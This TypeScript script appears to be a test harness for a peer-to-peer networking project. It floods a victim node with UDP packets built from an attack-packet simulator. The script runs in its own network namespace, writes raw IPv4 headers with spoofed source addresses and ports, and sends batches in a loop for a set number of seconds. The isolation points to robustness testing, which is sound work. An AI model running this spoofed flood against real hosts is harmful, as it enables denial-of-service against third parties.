/**
 * The process that floods, in a network namespace of its own: as many packets of one kind as it can send, from addresses
 * that are not its own but for those of its own identity. Its one argument is a {@link FloodOrder}; it prints how many
 * packets it sent, and ends by itself.
 */
import { createSocket } from 'node:dgram';

import { parseAddress } from '../src/base/ids.ts';
import { Prng } from '../src/base/prng.ts';
import { nodeProvider } from '../src/io/crypto/node-provider.ts';
import { systemClock } from '../src/sys/clock.ts';
import { libc } from '../src/sys/ffi/libc.ts';
import { MessageSender } from '../src/sys/ffi/message-vector.ts';
import { parseIdentity } from '../src/wire/identity.ts';
import { parseInetAddress, type IpEndpoint } from '../src/wire/inet-address.ts';
import { AttackPackets, type MadeAttack, type Victim } from '../sim/attack-packets.ts';
import { testIdentity } from '../test/vectors/identities.ts';

/** What to do. */
export interface FloodOrder {
  readonly attack: MadeAttack;
  readonly victim: {
    readonly identity: string;
    /** `ip/port` */
    readonly endpoint: string;
    /** As `overspan root show --json` prints them: 16 digits each. */
    readonly planet: { readonly id: string; readonly timestamp: string };
  };
  /** In whose name: ten digits. */
  readonly other: string;
  /** Of the attacker, IPv4. */
  readonly ownIp: string;
  readonly seconds: number;
}

/** Different packets; they are sent again and again. */
const poolSize = 4_096;
const perCall = 32;
/** IPv4 without options, and UDP. */
const headersLength = 20 + 8;
/** SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, and IPPROTO_RAW: the header is ours. */
const rawSocket = 0x8_0803;
const rawProtocol = 255;
const greetingMs = 1_000;

const order = JSON.parse(process.argv[2] ?? '') as FloodOrder;
const prng = new Prng(order.attack);
const endpoint = ipv4(order.victim.endpoint);
const victim: Victim = {
  identity: parseIdentity(order.victim.identity)!,
  endpoint,
  planet: {
    id: BigInt(`0x${order.victim.planet.id}`),
    timestamp: BigInt(`0x${order.victim.planet.timestamp}`),
  },
};
const packets = new AttackPackets({
  provider: nodeProvider(),
  prng,
  identity: testIdentity(42),
  wallMs: () => systemClock.wallMs(),
});
const ownEndpoint = ipv4(`${order.ownIp}/9993`);

// What is answered to our own identity is taken by somebody, and not looked at.
const own = createSocket('udp4').bind(9993, order.ownIp, () => {
  own.send(packets.greeting(victim), endpoint.port, order.victim.endpoint.split('/')[0]);
  setTimeout(flood, greetingMs);
});
own.on('message', () => undefined);

function flood(): void {
  const other = parseAddress(order.other)!;
  const isOwn = order.attack === 'whois';
  const pool = Array.from({ length: poolSize }, () =>
    datagram(packets.make(victim, order.attack, other), isOwn),
  );
  const library = libc();
  const descriptor = library.socket(2, rawSocket, rawProtocol);
  if (descriptor < 0) throw new Error(`no raw socket: ${descriptor}`);
  const sender = new MessageSender(library, perCall);
  const to = { ...endpoint, port: 0 };
  const endNs = systemClock.nowNs() + order.seconds * 1e9;
  let sent = 0;
  let next = 0;
  console.log('flooding');
  while (systemClock.nowNs() < endNs) {
    sender.clear();
    for (let i = 0; i < perCall; i++) {
      const bytes = pool[next++ % poolSize]!;
      sender.add(bytes, 0, bytes.length, to, 0);
    }
    const result = sender.send(descriptor, 0);
    if (result > 0) sent += result;
  }
  library.close(descriptor);
  own.close();
  console.log(JSON.stringify({ sent }));
}

/** A packet in UDP in IPv4; checksums are the kernel's, or none. */
function datagram(packet: Uint8Array, isOwn: boolean): Uint8Array {
  const bytes = new Uint8Array(headersLength + packet.length);
  const view = new DataView(bytes.buffer);
  view.setUint8(0, 0x45);
  view.setUint16(2, bytes.length);
  view.setUint8(8, 64);
  view.setUint8(9, 17);
  view.setUint32(12, isOwn ? ownEndpoint.address : 0x0a42_0000 + prng.below(0x1_0000));
  view.setUint32(16, endpoint.address);
  view.setUint16(20, isOwn ? 9_993 : 1_024 + prng.below(60_000));
  view.setUint16(22, endpoint.port);
  view.setUint16(24, 8 + packet.length);
  bytes.set(packet, headersLength);
  return bytes;
}

function ipv4(text: string): Extract<IpEndpoint, { kind: 'ipv4' }> {
  const parsed = parseInetAddress(text);
  if (parsed?.kind !== 'ipv4') throw new Error(`no IPv4 address and port: ${text}`);
  return parsed;
}
